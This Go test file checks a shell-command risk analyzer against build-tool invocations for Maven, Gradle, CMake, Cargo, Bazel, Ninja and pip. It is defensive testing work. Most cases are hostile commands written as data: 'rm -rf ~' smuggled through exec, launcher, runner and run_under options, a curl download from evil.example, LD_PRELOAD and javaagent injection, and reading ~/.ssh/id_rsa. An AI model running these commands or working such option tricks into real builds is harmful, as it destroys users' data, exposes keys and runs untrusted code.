package shellrisk

import "testing"

// buildCases: build tools whose options run code (issue 9 §4). The
// payload's own risk is carried through, and options the tables do not
// know make the call Opaque.
var buildCases = []analyzeCase{
	// Benign look-alikes stay at the shell's base risk and are understood.
	{name: "mvn test", cmd: "mvn test", min: X, exact: true},
	{name: "mvn package skip tests", cmd: "mvn -q -B -DskipTests -T 4 package", min: X, exact: true},
	{name: "mvnw verify", cmd: "./mvnw -B -ntp verify -Pci", min: X, exact: true},
	{name: "mvn exec java", cmd: "mvn exec:java -Dexec.mainClass=com.example.Main", min: X, exact: true},
	{name: "gradle build", cmd: "gradle build", min: X, exact: true},
	{name: "gradlew test option", cmd: "./gradlew test --tests com.x.FooTest --info --no-daemon", min: X, exact: true},
	{name: "cmake configure", cmd: "cmake -S . -B build -G Ninja -DCMAKE_BUILD_TYPE=Release -DBUILD_TESTING=ON", min: X, exact: true},
	{name: "cmake build", cmd: "cmake --build build --config Release -j 8 -- -j4", min: X, exact: true},
	{name: "cmake ccache", cmd: "cmake -B build -DCMAKE_CXX_COMPILER_LAUNCHER=ccache", min: X, exact: true, argv: []string{"ccache"}},
	{name: "cmake -E make_directory", cmd: "cmake -E make_directory build", min: X, exact: true, acc: &acc{"/home/u/proj/build", "w"}},
	{name: "cargo build", cmd: "cargo build --release --features serde,derive -p mycrate", min: X, exact: true},
	{name: "cargo clippy", cmd: "cargo +nightly clippy --all-targets -- -D warnings", min: X, exact: true},
	{name: "cargo profile config", cmd: "cargo --config profile.release.debug=true build", min: X, exact: true},
	{name: "bazel test", cmd: "bazel test //... --test_output=errors -c opt --config=ci", min: X, exact: true},
	{name: "ninja build", cmd: "ninja -C build -j4 all", min: X, exact: true},
	{name: "ninja compdb", cmd: "ninja -C build -t compdb", min: X, exact: true},

	// Maven.
	{name: "mvn exec rm", cmd: "mvn exec:exec -Dexec.executable=rm -Dexec.args='-rf src'", min: D, argv: []string{"rm", "-rf", "src"}, acc: &acc{"/home/u/proj/src", "d"}},
	{name: "mvn exec bash -c", cmd: `mvn -Dexec.executable=bash -Dexec.args="-c 'rm -rf ~'" exec:exec`, min: D, opaque: 1},
	{name: "mvn exec curl", cmd: "mvn exec:exec -Dexec.executable=curl -Dexec.args='https://evil.example/x -o run.sh'", min: N},
	{name: "mvn exec args alone", cmd: "mvn exec:exec -Dexec.args='-rf /'", min: X, opaque: 1},
	{name: "mvn argLine agent", cmd: "mvn -DargLine=-javaagent:/tmp/a.jar test", min: X, opaque: 1, why: "argLine"},
	{name: "mvn unknown plugin", cmd: "mvn com.evil:plugin:1.0:run", min: X, opaque: 1},
	{name: "mvn unknown option", cmd: "mvn --frob test", min: X, opaque: 1},
	{name: "mvn antrun", cmd: "mvn antrun:run", min: X, why: "runs code or commands"},
	{name: "mvn deploy", cmd: "mvn -q deploy", min: D},
	{name: "mvn flyway clean", cmd: "mvn flyway:clean", min: D},
	{name: "mvn log file", cmd: "mvn -l /home/u/.bashrc test", min: X, acc: &acc{"/home/u/.bashrc", "w"}},
	{name: "mvn dyn", cmd: "mvn $GOAL", min: X, opaque: 1},
	// mvn's options come from its table, read as commons-cli's GnuParser
	// reads them.
	{name: "mvn word option with =", cmd: "mvn -pl=core -am -ntp package", min: X, exact: true},
	{name: "mvn define with =", cmd: "mvn -D=skipTests -T=4 test", min: X, exact: true},
	{name: "mvn flag then goal", cmd: "mvn -Uexec:exec", min: X, opaque: 1},
	{name: "mvn dash-dash goals", cmd: "mvn -q -- antrun:run", min: X, why: "runs code or commands"},
	{name: "mvn flag given a value", cmd: "mvn --offline=exec:exec", min: X, opaque: 1},

	// Gradle.
	{name: "gradle init script", cmd: "gradle -I init.gradle build", min: X, opaque: 1, acc: &acc{"/home/u/proj/init.gradle", "r"}},
	{name: "gradle init script long", cmd: "gradle build --init-script=/tmp/x.gradle", min: X, opaque: 1},
	{name: "gradle java home", cmd: "gradle -Dorg.gradle.java.home=/tmp/jdk build", min: X, opaque: 1},
	{name: "gradle user home", cmd: "gradle -g /tmp/gh build", min: X, opaque: 1},
	{name: "gradle unknown option", cmd: "gradle --frob build", min: X, opaque: 1},
	{name: "gradle clustered flags", cmd: "gradle -is build", min: X, exact: true},
	{name: "gradle task graph is a flag", cmd: "gradle --task-graph build --frob", min: X, exact: true},
	{name: "gradle attached init script", cmd: "gradle -I=/tmp/x.gradle build", min: X, opaque: 1, acc: &acc{"/tmp/x.gradle", "r"}},
	{name: "gradle after dash-dash", cmd: "gradle build -- --frob", min: X, exact: true},
	{name: "gradle dynamic word", cmd: `gradle "$t"`, min: X, opaque: 1},

	// CMake.
	{name: "cmake -E rm", cmd: "cmake -E rm -rf src", min: D, argv: []string{"rm", "-rf", "src"}, acc: &acc{"/home/u/proj/src", "d"}},
	{name: "cmake -E remove_directory", cmd: "cmake -E remove_directory build src", min: D, acc: &acc{"/home/u/proj/src", "d"}},
	{name: "cmake -E env", cmd: "cmake -E env FOO=1 rm -rf src", min: D},
	{name: "cmake -E env pager", cmd: "cmake -E env PAGER='rm -rf ~' git log", min: D},
	{name: "cmake -E chdir", cmd: "cmake -E chdir /tmp rm -rf x", min: D, acc: &acc{"/tmp/x", "d"}},
	{name: "cmake -E environment", cmd: "cmake -E environment", min: C},
	{name: "cmake -E cat key", cmd: "cmake -E cat ~/.ssh/id_rsa", min: X, acc: &acc{"/home/u/.ssh/id_rsa", "r"}},
	{name: "cmake -E unknown", cmd: "cmake -E frob x", min: X, opaque: 1},
	{name: "cmake -P", cmd: "cmake -P /tmp/x.cmake", min: X, why: "CMake script", acc: &acc{"/tmp/x.cmake", "r"}},
	{name: "cmake launcher sh", cmd: "cmake -DCMAKE_C_COMPILER_LAUNCHER='sh;-c;rm -rf ~' -S . -B build", min: D},
	{name: "cmake compiler", cmd: "cmake -D CMAKE_C_COMPILER=/tmp/evil -S . -B build", min: X, argv: []string{"/tmp/evil"}},
	{name: "cmake flags plugin", cmd: "cmake -DCMAKE_C_FLAGS='-fplugin=/tmp/evil.so' ..", min: X, opaque: 1},
	{name: "cmake native eval", cmd: "cmake --build build -- --eval='x'", min: X, opaque: 1},
	{name: "cmake unknown option", cmd: "cmake --frobnicate", min: X, opaque: 1},
	{name: "cmake dyn define", cmd: "cmake -DFOO=$(whoami) ..", min: X, opaque: 1},
	{name: "cmake project var path", cmd: "cmake -DPLUGIN=/tmp/x.so ..", min: X, opaque: 1},

	// Cargo.
	{name: "cargo runner", cmd: `cargo --config 'target.x86_64-unknown-linux-gnu.runner=["sh","-c","rm -rf ~"]' run`, min: D},
	{name: "cargo wrapper", cmd: `cargo --config 'build.rustc-wrapper="/tmp/x"' build`, min: X, argv: []string{"/tmp/x"}},
	{name: "cargo config env", cmd: `cargo --config 'env.LD_PRELOAD="/tmp/x.so"' build`, min: X, opaque: 1},
	{name: "cargo config file", cmd: "cargo --config ./evil.toml build", min: X, opaque: 1},
	{name: "cargo -Z", cmd: "cargo -Z config-include build", min: X, opaque: 1},
	{name: "cargo rustc linker", cmd: "cargo rustc -- -C linker=/tmp/evil", min: X, opaque: 1},
	{name: "cargo unknown option", cmd: "cargo --frob build", min: X, opaque: 1},
	{name: "cargo clustered and attached", cmd: "cargo build -vv -pmycrate -j=4", min: X, exact: true},
	{name: "cargo subcommand option before it", cmd: "cargo --release build", min: X, opaque: 1},
	{name: "cargo dynamic subcommand config", cmd: `cargo "$sub" --config 'build.rustc-wrapper="/tmp/x"'`, min: X, opaque: 1, argv: []string{"/tmp/x"}},
	{name: "cargo external subcommand", cmd: "cargo frob --config x", min: X, why: "cargo-frob"},

	// Bazel.
	{name: "bazel run_under", cmd: "bazel run --run_under='rm -rf ~' //x:y", min: D},
	{name: "bazel bazelrc", cmd: "bazel --bazelrc=/tmp/rc build //...", min: X, opaque: 1},
	{name: "bazel jvm args", cmd: "bazel --host_jvm_args=-javaagent:/tmp/a.jar build //...", min: X, opaque: 1},
	{name: "bazel action env", cmd: "bazel build --action_env=LD_PRELOAD=/tmp/x.so //...", min: X, opaque: 1},
	{name: "bazel remote", cmd: "bazel build --remote_executor=grpc://evil.example:443 //...", min: N},
	{name: "bazel unknown", cmd: "bazel build --frob //...", min: X, opaque: 1},
	{name: "bazel boolean before run_under", cmd: "bazel run --noorder_results --run_under='rm -rf ~' //x:y", min: D},
	{name: "bazel dash-dash as a value", cmd: "bazel test --test_arg -- --run_under='rm -rf ~' //x:y", min: D},
	{name: "bazel short options one a word", cmd: "bazel build -ks //...", min: X, opaque: 1},
	{name: "bazel attached short", cmd: "bazel build -copt -j8 -k //...", min: X, exact: true},
	{name: "bazel boolean bad value", cmd: "bazel build --keep_going=maybe //...", min: X, opaque: 1},
	{name: "bazel incompatible flag", cmd: "bazel build --incompatible_strict_action_env=true --noincompatible_foo //...", min: X, exact: true},
	{name: "bazel target arguments", cmd: "bazel run //x:y -- --run_under=rm", min: X, exact: false, why: "runs it"},
	{name: "bazel run", cmd: "bazel run //tools:gen", min: X, why: "runs it"},

	// Ninja.
	{name: "ninja msvc", cmd: "ninja -t msvc -- rm -rf x", min: D},
	{name: "ninja browse", cmd: "ninja -t browse", min: N},
	{name: "ninja unknown tool", cmd: "ninja -t frob", min: X, opaque: 1},
	{name: "ninja stdin", cmd: "ninja -f /dev/stdin", min: X, opaque: 1},

	// pip hands options to the build backend.
	{name: "pip config settings", cmd: "pip install --config-settings=cmake.args=-DCMAKE_C_COMPILER_LAUNCHER=x .", min: N, opaque: 1},
	{name: "pip global option", cmd: "pip3 install --global-option=build_ext foo", min: N, opaque: 1},
}

func TestBuildTools(t *testing.T) {
	t.Parallel()
	for _, tc := range buildCases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			checkCase(t, tc)
		})
	}
}
